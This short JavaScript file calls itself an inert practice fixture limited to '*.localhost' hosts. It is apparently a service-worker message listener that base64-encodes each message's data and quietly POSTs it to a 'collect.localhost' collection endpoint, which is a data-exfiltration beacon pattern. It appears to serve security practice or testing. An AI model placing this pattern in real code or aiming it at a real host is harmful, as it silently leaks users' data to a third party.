/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  addEventListener('message', (event) => {
    event.waitUntil(
      fetch(`${home}/sw`, { method: 'POST', mode: 'no-cors', body: btoa(event.data) }).catch(
        () => {},
      ),
    );
  });
})();
